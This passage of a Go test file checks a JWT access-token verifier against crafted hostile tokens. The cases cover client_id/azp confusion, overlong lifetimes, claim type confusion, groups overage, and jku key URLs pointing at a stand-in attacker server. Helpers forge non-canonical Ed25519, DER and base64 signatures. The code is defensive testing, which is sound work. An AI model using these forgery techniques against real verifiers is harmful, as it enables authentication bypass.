		attack{name: "client_id listed, azp unlisted: client_id decides", ref: "RFC 9068 §2.2", server: &clientsSrv, authz: withClaims(nil, map[string]any{"client_id": "plants-web", "azp": "reports-cli"}), wantSub: "alice"},
		attack{name: "client_id empty, azp listed", ref: "RFC 9068 §2.2", server: &clientsSrv, authz: withClaims(nil, map[string]any{"client_id": "", "azp": "plants-web"}), want: auth.ReasonClient},
		attack{name: "client_id in another case", ref: "RFC 6749 §2.2 (client ids are exact)", server: &clientsSrv, authz: withClaims(nil, map[string]any{"client_id": "PLANTS-WEB"}), want: auth.ReasonClient},
		attack{name: "client_id an array holding the client", ref: "RFC 9068 §2.2 (a string)", server: &clientsSrv, authz: withClaims(nil, map[string]any{"client_id": []string{"plants-web"}}), want: auth.ReasonClaims},
		attack{name: "neither client_id nor azp", ref: "RFC 9068 §2.2", server: &clientsSrv, authz: withClaims(nil, nil), want: auth.ReasonClient},
		attack{name: "control: no client_id where any client is accepted", ref: "-", authz: withClaims(nil, map[string]any{"client_id": "reports-cli"}), wantSub: "alice"},
	)

	// A year-long token from a misconfigured client: the lifetime counts
	// from iat, or from now without one.
	tests = append(tests,
		attack{name: "lifetime at the cap", ref: "RFC 8725 §3.10", server: &lifetimeSrv, authz: lifetime(0, time.Hour), wantSub: "alice"},
		attack{name: "lifetime one second over the cap", ref: "RFC 8725 §3.10", server: &lifetimeSrv, authz: lifetime(0, time.Hour+time.Second), want: auth.ReasonLifetime},
		attack{name: "no iat, exp at the cap from now", ref: "RFC 7519 §4.1.6 (iat optional)", server: &lifetimeSrv, authz: lifetime(noIat, time.Hour), wantSub: "alice"},
		attack{name: "no iat, exp one second over the cap from now", ref: "RFC 7519 §4.1.6", server: &lifetimeSrv, authz: lifetime(noIat, time.Hour+time.Second), want: auth.ReasonLifetime},
		attack{name: "half of a 90-minute token left", ref: "RFC 8725 §3.10 (lifetime from iat)", server: &lifetimeSrv, authz: lifetime(-45*time.Minute, 45*time.Minute), want: auth.ReasonLifetime},
		attack{name: "a year-long token", ref: "RFC 8725 §3.10", server: &lifetimeSrv, authz: lifetime(0, 365*24*time.Hour), want: auth.ReasonLifetime},
		attack{name: "control: a year-long token where no cap is set", ref: "-", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"exp": time.Now().Add(365 * 24 * time.Hour).Unix()}))), wantSub: "alice"},
	)

	// Claim rules (the issuer's own conditions): JSON equality, so a
	// string is never a boolean or a number; a path through an object, an
	// array, a key whose name holds a dot; a huge claim costs no more
	// than a small one to refuse.
	yes, no, prefix := true, false, "plants-"
	var tru, org any = true, map[string]any{"id": "o-1"}
	ruleSrv := func(r auth.ClaimRule) *apiServer {
		s := newAPIServer(t, auth.Config{Claims: []auth.ClaimRule{r}}, jwks)
		return &s
	}
	verified := ruleSrv(auth.ClaimRule{Path: "email_verified", Equals: &tru})
	orgSrv := ruleSrv(auth.ClaimRule{Path: "org", Equals: &org})
	tenants := ruleSrv(auth.ClaimRule{Path: "tid", OneOf: []any{"t-1", 2.0}})
	noAct := ruleSrv(auth.ClaimRule{Path: "act", Exists: &no})
	hasTid := ruleSrv(auth.ClaimRule{Path: "tid", Exists: &yes})
	roles := ruleSrv(auth.ClaimRule{Path: "realm_access.roles", Prefix: &prefix})
	var t1 any = "t-1"
	dotted := ruleSrv(auth.ClaimRule{Path: "https://plants.example.com/tenant", Equals: &t1})
	huge := make([]string, 1000)
	for i := range huge {
		huge[i] = "x"
	}
	tests = append(tests,
		attack{name: "claim rule equals true: true", ref: "RFC 8259 (JSON values)", server: verified, authz: withClaims(nil, map[string]any{"email_verified": true}), wantSub: "alice"},
		attack{name: "claim rule equals true: the string \"true\"", ref: "RFC 8259 (a string is not a boolean)", server: verified, authz: withClaims(nil, map[string]any{"email_verified": "true"}), want: auth.ReasonClaim},
		attack{name: "claim rule equals true: the number 1", ref: "RFC 8259", server: verified, authz: withClaims(nil, map[string]any{"email_verified": 1}), want: auth.ReasonClaim},
		attack{name: "claim rule equals true: claim missing", ref: "-", server: verified, authz: withClaims(nil, nil), want: auth.ReasonClaim},
		attack{name: "claim rule equals true: an array holding true", ref: "RFC 8259", server: verified, authz: withClaims(nil, map[string]any{"email_verified": []any{true}}), want: auth.ReasonClaim},
		attack{name: "claim rule equals true: an object", ref: "RFC 8259", server: verified, authz: withClaims(nil, map[string]any{"email_verified": map[string]any{"value": true}}), want: auth.ReasonClaim},
		attack{name: "claim rule equals an object: the same object", ref: "RFC 8259", server: orgSrv, authz: withClaims(nil, map[string]any{"org": map[string]any{"id": "o-1"}}), wantSub: "alice"},
		attack{name: "claim rule equals an object: one member more", ref: "RFC 8259", server: orgSrv, authz: withClaims(nil, map[string]any{"org": map[string]any{"id": "o-1", "admin": true}}), want: auth.ReasonClaim},
		attack{name: "claim rule equals an object: its member alone", ref: "RFC 8259", server: orgSrv, authz: withClaims(nil, map[string]any{"org": "o-1"}), want: auth.ReasonClaim},
		attack{name: "claim rule one_of: listed string", ref: "-", server: tenants, authz: withClaims(nil, map[string]any{"tid": "t-1"}), wantSub: "alice"},
		attack{name: "claim rule one_of: listed number", ref: "RFC 8259", server: tenants, authz: withClaims(nil, map[string]any{"tid": 2}), wantSub: "alice"},
		attack{name: "claim rule one_of: the number as a string", ref: "RFC 8259 (numbers vs strings)", server: tenants, authz: withClaims(nil, map[string]any{"tid": "2"}), want: auth.ReasonClaim},
		attack{name: "claim rule one_of: an array holding a listed value", ref: "RFC 8259", server: tenants, authz: withClaims(nil, map[string]any{"tid": []any{"t-1"}}), want: auth.ReasonClaim},
		attack{name: "claim rule one_of: another case", ref: "-", server: tenants, authz: withClaims(nil, map[string]any{"tid": "T-1"}), want: auth.ReasonClaim},
		attack{name: "claim rule one_of: claim missing", ref: "-", server: tenants, authz: withClaims(nil, nil), want: auth.ReasonClaim},
		attack{name: "claim rule exists false: a delegated token (act)", ref: "RFC 8693 §4.1", server: noAct, authz: withClaims(nil, map[string]any{"act": map[string]any{"sub": "admin"}}), want: auth.ReasonClaim},
		attack{name: "claim rule exists false: act false", ref: "RFC 8693 §4.1", server: noAct, authz: withClaims(nil, map[string]any{"act": false}), want: auth.ReasonClaim},
		attack{name: "claim rule exists false: no act", ref: "-", server: noAct, authz: withClaims(nil, nil), wantSub: "alice"},
		attack{name: "claim rule exists true: present, empty string", ref: "-", server: hasTid, authz: withClaims(nil, map[string]any{"tid": ""}), wantSub: "alice"},
		attack{name: "claim rule exists true: missing", ref: "-", server: hasTid, authz: withClaims(nil, nil), want: auth.ReasonClaim},
		attack{name: "claim rule prefix: an item of the array", ref: "-", server: roles, authz: withClaims(nil, map[string]any{"realm_access": map[string]any{"roles": []any{"offline", "plants-read"}}}), wantSub: "alice"},
		attack{name: "claim rule prefix: a string", ref: "-", server: roles, authz: withClaims(nil, map[string]any{"realm_access": map[string]any{"roles": "plants-read"}}), wantSub: "alice"},
		attack{name: "claim rule prefix: no item starts so", ref: "-", server: roles, authz: withClaims(nil, map[string]any{"realm_access": map[string]any{"roles": []any{"offline", "xplants-read"}}}), want: auth.ReasonClaim},
		attack{name: "claim rule prefix: the prefix inside an object item", ref: "RFC 8259", server: roles, authz: withClaims(nil, map[string]any{"realm_access": map[string]any{"roles": []any{map[string]any{"name": "plants-read"}, 7}}}), want: auth.ReasonClaim},
		attack{name: "claim rule prefix: the path through a string", ref: "-", server: roles, authz: withClaims(nil, map[string]any{"realm_access": "plants-read"}), want: auth.ReasonClaim},
		attack{name: "claim rule prefix: the path at an object", ref: "-", server: roles, authz: withClaims(nil, map[string]any{"realm_access": map[string]any{"roles": map[string]any{"plants-read": true}}}), want: auth.ReasonClaim},
		attack{name: "claim rule prefix: the path through an array", ref: "-", server: roles, authz: withClaims(nil, map[string]any{"realm_access": []any{map[string]any{"roles": "plants-read"}}}), want: auth.ReasonClaim},
		attack{name: "claim rule prefix: a dotted top-level name where the path is nested", ref: "-", server: roles, authz: withClaims(nil, map[string]any{"realm_access.roles": "plants-read"}), wantSub: "alice"},
		attack{name: "claim rule prefix: a huge claim, no item matches", ref: "RFC 8725 §2.9 (cost)", server: roles, authz: withClaims(nil, map[string]any{"realm_access": map[string]any{"roles": huge}}), want: auth.ReasonClaim},
		attack{name: "claim rule prefix: claim missing", ref: "-", server: roles, authz: withClaims(nil, nil), want: auth.ReasonClaim},
		attack{name: "claim rule on a name with dots: the top-level claim", ref: "OIDC Core §5.1.2 (collision-resistant names)", server: dotted, authz: withClaims(nil, map[string]any{"https://plants.example.com/tenant": "t-1"}), wantSub: "alice"},
		attack{name: "claim rule on a name with dots: the top-level claim decides over a nested one", ref: "OIDC Core §5.1.2", server: dotted, authz: withClaims(nil, map[string]any{"https://plants.example.com/tenant": "t-2", "https://plants": map[string]any{"example": map[string]any{"com/tenant": "t-1"}}}), want: auth.ReasonClaim},
		attack{name: "claim rule on a name with dots: only a nested one", ref: "OIDC Core §5.1.2", server: dotted, authz: withClaims(nil, map[string]any{"https://plants": map[string]any{"example": map[string]any{"com/tenant": "t-1"}}}), wantSub: "alice"},
	)

	// The same rules in audit mode: counted, never refused; a refusal
	// of a rule that is not audited stays one.
	auditSrv := func(c auth.Config, rule string) *apiServer {
		c.Audit = []string{rule}
		s := newAPIServer(t, c, jwks)
		return &s
	}
	atAudit := auditSrv(auth.Config{TokenTypes: []string{"at+jwt"}}, "token_types")
	clientsAudit := auditSrv(auth.Config{Clients: []string{"plants-web"}}, "clients")
	lifetimeAudit := auditSrv(auth.Config{MaxLifetime: time.Hour}, "max_lifetime")
	claimsAudit := auditSrv(auth.Config{Claims: []auth.ClaimRule{{Path: "email_verified", Equals: &tru}}}, "claims")
	claimsAuditClients := auditSrv(auth.Config{Claims: []auth.ClaimRule{{Path: "email_verified", Equals: &tru}}, Clients: []string{"plants-web"}}, "claims")
	tests = append(tests,
		attack{name: "audit token_types: typ JWT where at+jwt is required", ref: "RFC 9068 §2.1", server: atAudit, authz: withClaims(map[string]any{"typ": "JWT"}, nil), wantSub: "alice"},
		attack{name: "audit token_types: no typ", ref: "RFC 9068 §2.1", server: atAudit, authz: withClaims(map[string]any{"typ": nil}, nil), wantSub: "alice"},
		attack{name: "audit token_types: a DPoP proof is still refused", ref: "RFC 8725 §3.11, RFC 9449 §4.2", server: atAudit, authz: withClaims(map[string]any{"typ": "dpop+jwt"}, nil), want: auth.ReasonTokenType},
		attack{name: "audit token_types: a security event is still refused", ref: "RFC 8417 §2.3", server: atAudit, authz: withClaims(map[string]any{"typ": "secevent+jwt"}, nil), want: auth.ReasonTokenType},
		attack{name: "audit clients: client_id unlisted", ref: "RFC 9068 §2.2", server: clientsAudit, authz: withClaims(nil, map[string]any{"client_id": "reports-cli"}), wantSub: "alice"},
		attack{name: "audit clients: neither client_id nor azp", ref: "RFC 9068 §2.2", server: clientsAudit, authz: withClaims(nil, nil), wantSub: "alice"},
		attack{name: "audit max_lifetime: a year-long token", ref: "RFC 8725 §3.10", server: lifetimeAudit, authz: withClaims(nil, map[string]any{"exp": time.Now().Add(365 * 24 * time.Hour).Unix()}), wantSub: "alice"},
		attack{name: "audit max_lifetime: an expired token is still refused", ref: "RFC 7519 §4.1.4", server: lifetimeAudit, authz: withClaims(nil, map[string]any{"exp": time.Now().Add(-time.Hour).Unix()}), want: auth.ReasonExpired},
		attack{name: "audit claims: the string \"true\"", ref: "RFC 8259", server: claimsAudit, authz: withClaims(nil, map[string]any{"email_verified": "true"}), wantSub: "alice"},
		attack{name: "audit claims: claim missing", ref: "-", server: claimsAudit, authz: withClaims(nil, nil), wantSub: "alice"},
		attack{name: "audit claims: an enforced client rule still refuses", ref: "RFC 9068 §2.2", server: claimsAuditClients, authz: withClaims(nil, map[string]any{"client_id": "reports-cli"}), want: auth.ReasonClient},
		attack{name: "audit claims: groups overage still refused", ref: "Entra ID groups overage claim", server: claimsAudit, authz: withClaims(nil, map[string]any{"hasgroups": true}), want: auth.ReasonGroupsOverage},
	)

	// Resource indicators (RFC 8707): with a public URL, the resource URL
	// the metadata publishes is an audience of every issuer, exactly.
	withPublic := verifierOptions
	withPublic.PublicURL, _ = url.Parse("https://gw.example.com/garden/")
	resourceSrv := serveVerifier(t, newVerifierOpts(t, withPublic, auth.Config{Audiences: []string{"plantstore"}}, jwks))
	noPublicSrv := newAPIServer(t, auth.Config{Audiences: []string{"plantstore"}}, jwks)
	tests = append(tests,
		attack{name: "RFC 8707: aud the resource URL", ref: "RFC 8707 §2, RFC 9728 §2", server: &resourceSrv, authz: withClaims(nil, map[string]any{"aud": "https://gw.example.com/garden"}), wantSub: "alice"},
		attack{name: "RFC 8707: aud an array holding the resource URL", ref: "RFC 8707 §2, RFC 7519 §4.1.3", server: &resourceSrv, authz: withClaims(nil, map[string]any{"aud": []any{"https://other.example", "https://gw.example.com/garden"}}), wantSub: "alice"},
		attack{name: "RFC 8707: aud a listed audience", ref: "RFC 7519 §4.1.3", server: &resourceSrv, authz: withClaims(nil, map[string]any{"aud": "plantstore"}), wantSub: "alice"},
		attack{name: "RFC 8707: aud the resource URL with a trailing slash", ref: "RFC 8707 §2 (exact)", server: &resourceSrv, authz: withClaims(nil, map[string]any{"aud": "https://gw.example.com/garden/"}), want: auth.ReasonAudience},
		attack{name: "RFC 8707: aud the resource's origin alone", ref: "RFC 8707 §2", server: &resourceSrv, authz: withClaims(nil, map[string]any{"aud": "https://gw.example.com"}), want: auth.ReasonAudience},
		attack{name: "RFC 8707: aud the resource URL over http", ref: "RFC 8707 §2", server: &resourceSrv, authz: withClaims(nil, map[string]any{"aud": "http://gw.example.com/garden"}), want: auth.ReasonAudience},
		attack{name: "RFC 8707: aud a resource URL without a public URL set", ref: "RFC 8707 §2", server: &noPublicSrv, authz: withClaims(nil, map[string]any{"aud": noPublicSrv.url}), want: auth.ReasonAudience},
	)

	// Groups overage (Microsoft Entra ID): a token that says its groups
	// were left out is refused, never served as a caller without groups.
	tests = append(tests,
		attack{name: "groups overage: _claim_names.groups", ref: "Entra ID groups overage claim", authz: withClaims(nil, map[string]any{"_claim_names": map[string]any{"groups": "src1"}, "_claim_sources": map[string]any{"src1": map[string]any{"endpoint": evil.URL}}}), want: auth.ReasonGroupsOverage},
		attack{name: "groups overage: hasgroups true", ref: "Entra ID implicit-flow overage", authz: withClaims(nil, map[string]any{"hasgroups": true}), want: auth.ReasonGroupsOverage},
		attack{name: "groups overage: _claim_names.groups beside groups", ref: "Entra ID groups overage claim", authz: withClaims(nil, map[string]any{"groups": []any{"gardeners"}, "_claim_names": map[string]any{"groups": "src1"}}), want: auth.ReasonGroupsOverage},
		attack{name: "control: _claim_names of another claim", ref: "OIDC Core §5.6.2", authz: withClaims(nil, map[string]any{"_claim_names": map[string]any{"address": "src1"}}), wantSub: "alice"},
		attack{name: "control: hasgroups false", ref: "-", authz: withClaims(nil, map[string]any{"hasgroups": false}), wantSub: "alice"},
	)

	// A binding the service does not check would leave the token a bearer
	// token for whoever holds it: refused, never served as one.
	x5t := sha256.Sum256([]byte("a client certificate"))
	for _, b := range []struct {
		name string
		cnf  map[string]any
		want auth.Reason
	}{
		{"cnf.x5t#S256 (a certificate-bound token) as Bearer", map[string]any{"x5t#S256": b64(x5t[:])}, auth.ReasonCertBound},
		{"cnf.jwk as Bearer", map[string]any{"jwk": publicJWK(t, attacker.Verify.Public, nil)}, auth.ReasonUnknownBinding},
		{"cnf.jku as Bearer", map[string]any{"jku": evil.URL}, auth.ReasonUnknownBinding},
	} {
		tests = append(tests, attack{name: b.name, ref: "RFC 7800 §3, RFC 8705 §3, RFC 9449 §6", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"cnf": b.cnf}))), want: b.want})
	}

	tests = append(tests, certAttacks(t, ecKey, jwks)...)
	tests = append(tests, revocationAttacks(t, ecKey, jwks)...)

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			url := srv.url
			if tt.scoped {
				url = scopedSrv.url
			}
			if tt.server != nil {
				url = tt.server.url
			}
			status, challenge, body := attackRequestWith(t, url, tt.authz, http.Header{"X-Client-Cert": tt.cert})
			if tt.want == auth.ReasonScope {
				if status != http.StatusForbidden || !strings.Contains(challenge, `error="insufficient_scope", scope="plants:read"`) {
					t.Fatalf("%s [%s]: status %d, WWW-Authenticate %q; want 403 insufficient_scope", tt.name, tt.ref, status, challenge)
				}
				return
			}
			if tt.want == "" {
				var id auth.Identity
				if status != http.StatusOK || json.Unmarshal(body, &id) != nil || id.Subject != tt.wantSub {
					t.Fatalf("%s [%s]: status %d, body %s; want 200 for subject %q", tt.name, tt.ref, status, body, tt.wantSub)
				}
				return
			}
			want := `Bearer realm="plantstore", error="invalid_token", error_description="` + tt.want.Description() + `"`
			if status != http.StatusUnauthorized || challenge != want {
				t.Fatalf("%s [%s]: status %d, WWW-Authenticate %q, body %s; want 401 with %q", tt.name, tt.ref, status, challenge, body, want)
			}
		})
	}
	t.Run("keys one second past max_stale with the IdP down, then back", func(t *testing.T) {
		testMaxStale(t)
	})
	if n := evilHits.Load(); n != 0 {
		t.Errorf("the attacker's server got %d requests; want 0", n)
	}
	if n := jwksSrv.Hits.Load(); n > 2 {
		t.Errorf("the JWKS endpoint got %d requests; want the first fetch and at most one refetch", n)
	}
}

// testMaxStale holds a named issuer's fetched keys to max_stale (1h) on a
// clock the test moves, its IdP down: a key the IdP may have removed stops
// verifying one second past max_stale, tokens verified before included,
// /readyz names the issuer, and the keys come back when a fetch succeeds.
func testMaxStale(t *testing.T) {
	const iss = "https://idp.example"
	key := authtest.NewKey(t, "ES256")
	doc := authtest.JWKS(t, key)
	idp := authtest.NewServer(t, doc)
	clock := newTestClock(time.Unix(time.Now().Unix(), 0))
	j, err := keys.NewJWKS(t.Context(), keys.JWKSOptions{URL: idp.URL, MinRefresh: time.Minute, Now: clock.Now}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	authtest.WaitFor(t, "the first JWKS fetch", func() bool { return j.Ready() == nil })
	v, err := auth.NewVerifier(auth.Options{}, auth.Issuer{Name: "staff", Config: auth.Config{Issuer: iss, MaxStale: time.Hour}, JWS: jws.New(j)})
	if err != nil {
		t.Fatal(err)
	}
	auth.SetClock(v, clock.Now)
	api := serveVerifier(t, v)

	n := 0
	token := func() string { // a token not seen before
		n++
		return authtest.Token(t, key, nil, authtest.Claims(map[string]any{
			"iss": iss, "jti": fmt.Sprint(n), "iat": clock.Now().Unix(), "exp": clock.Now().Add(3 * time.Hour).Unix(),
		}))
	}
	check := func(step, tok string, want auth.Reason) {
		t.Helper()
		status, challenge, body := attackRequest(t, api.url, "Bearer "+tok)
		switch {
		case want == "" && status != http.StatusOK:
			t.Errorf("%s: status %d, %q, %s; want 200", step, status, challenge, body)
		case want != "" && (status != http.StatusUnauthorized || !strings.Contains(challenge, `error_description="`+want.Description()+`"`)):
			t.Errorf("%s: status %d, %q; want 401 %s", step, status, challenge, want)
		}
	}
	fetches := func(step string, want int64) {
		t.Helper()
		if got := idp.Hits.Load(); got != want {
			t.Errorf("%s: the IdP got %d requests in all; want %d", step, got, want)
		}
	}

	cached := token()
	check("start", cached, "")
	idp.Set(func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "down", http.StatusServiceUnavailable) })
	clock.Add(time.Hour)
	check("at max_stale, cached", cached, "")
	check("at max_stale, a new token", token(), "")
	fetches("at max_stale", 1)
	if err := v.Ready(); err != nil {
		t.Errorf("Ready at max_stale = %v; want nil", err)
	}

	clock.Add(time.Second)
	// One fetch is tried, as for an unknown kid, and fails.
	check("1s past max_stale, cached", cached, auth.ReasonKeysUnavailable)
	fetches("1s past max_stale", 2)
	check("1s past max_stale, a new token", token(), auth.ReasonKeysUnavailable)
	fetches("1s past max_stale, within min_refresh of the failed fetch", 2)
	err = v.Ready()
	if err == nil || !errors.Is(err, keys.ErrNoKeys) || !strings.Contains(err.Error(), "issuer staff") || !strings.Contains(err.Error(), "max_stale 1h0m0s") {
		t.Errorf("Ready 1s past max_stale = %v; want ErrNoKeys naming issuer staff and max_stale", err)
	}

	idp.Serve(doc)
	clock.Add(time.Minute) // min_refresh after the failed fetch
	check("a fetch succeeds again, cached", cached, "")
	fetches("a fetch succeeds again", 3)
	check("a fetch succeeds again, a new token", token(), "")
	if err := v.Ready(); err != nil {
		t.Errorf("Ready after a good fetch = %v; want nil", err)
	}
}

// noIat, as the iat offset of a lifetime row, leaves iat out.
const noIat = time.Duration(-1 << 63)

// attackRequest sends GET url with the Authorization header authz and
// returns the status, the one WWW-Authenticate value and the body.
func attackRequest(t testing.TB, url, authz string) (int, string, []byte) {
	t.Helper()
	return attackRequestWith(t, url, authz, nil)
}

// attackRequestWith is attackRequest with the headers h besides.
func attackRequestWith(t testing.TB, url, authz string, h http.Header) (int, string, []byte) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range h {
		if len(v) > 0 {
			req.Header[k] = v
		}
	}
	// Set directly: net/http would refuse to send CR or LF, and these
	// tests mean to send every other byte.
	req.Header["Authorization"] = []string{authz}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	challenges := resp.Header.Values("WWW-Authenticate")
	if len(challenges) > 1 {
		t.Fatalf("GET %s: %d WWW-Authenticate headers %q; want at most one", url, len(challenges), challenges)
	}
	return resp.StatusCode, strings.Join(withoutMetadata(t, challenges), ""), body
}

// derSignature encodes r and s as an ASN.1 DER ECDSA-Sig-Value, the form
// X.509 uses and JWS does not.
func derSignature(t testing.TB, r, s *big.Int) []byte {
	t.Helper()
	enc := func(x *big.Int) []byte {
		b := x.Bytes()
		if len(b) == 0 || b[0]&0x80 != 0 {
			b = append([]byte{0}, b...)
		}
		return append([]byte{0x02, byte(len(b))}, b...)
	}
	body := append(enc(r), enc(s)...)
	return append([]byte{0x30, byte(len(body))}, body...)
}

// ed25519PlusL returns token with L, the order of the Ed25519 base point,
// added to the S half of its signature: the same value mod L, but not the
// canonical encoding RFC 8032 requires verifiers to insist on.
func ed25519PlusL(t testing.TB, token string) string {
	t.Helper()
	sig := signature(t, token)
	if len(sig) != ed25519.SignatureSize {
		t.Fatalf("Ed25519 signature of %d bytes", len(sig))
	}
	l, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
	le := func(b []byte) []byte { // little-endian <-> big-endian
		out := make([]byte, len(b))
		for i := range b {
			out[len(b)-1-i] = b[i]
		}
		return out
	}
	sv := new(big.Int).SetBytes(le(sig[32:]))
	sv.Add(sv, l)
	out := make([]byte, 32)
	sv.FillBytes(out)
	return withSignature(token, append(sig[:32:32], le(out)...))
}

// standardAlphabet returns a token by k whose signature is written with
// the standard base64 alphabet ("+" and "/"), which RFC 6750's b64token
// admits and JWS does not.
func standardAlphabet(t testing.TB, k authtest.Key, c map[string]any) string {
	t.Helper()
	for range 100 {
		tok := authtest.Token(t, k, nil, c)
		sig := tok[strings.LastIndexByte(tok, '.')+1:]
		if strings.ContainsAny(sig, "-_") {
			std := strings.NewReplacer("-", "+", "_", "/").Replace(sig)
			return tok[:strings.LastIndexByte(tok, '.')+1] + std
		}
	}
	t.Fatal("no signature with - or _ in 100 tries")
	return ""
}

// nonCanonicalHeader returns a token by k whose header segment has
// non-canonical trailing bits and whose signature covers that segment as
// written, so only the decoding can refuse it.
func nonCanonicalHeader(t testing.TB, k authtest.Key, c map[string]any) string {
	t.Helper()
	for pad := 0; pad < 3; pad++ {
		h := fmt.Sprintf(`{"alg":%q,"kid":%q,"x":%q}`, k.Alg, k.Verify.ID, strings.Repeat("x", pad))
		seg := b64([]byte(h))
		if len(seg)%4 == 0 {
			continue
		}
		p, err := json.Marshal(c)
		if err != nil {
			t.Fatal(err)
		}
		unsigned := flipUnusedBit(t, seg) + "." + b64(p)
		sig, err := jwt.GetSigningMethod(k.Alg).Sign(unsigned, k.Private)
		if err != nil {
			t.Fatal(err)
		}
		return unsigned + "." + b64(sig)
	}
	t.Fatal("no header length with unused bits")
	return ""
}
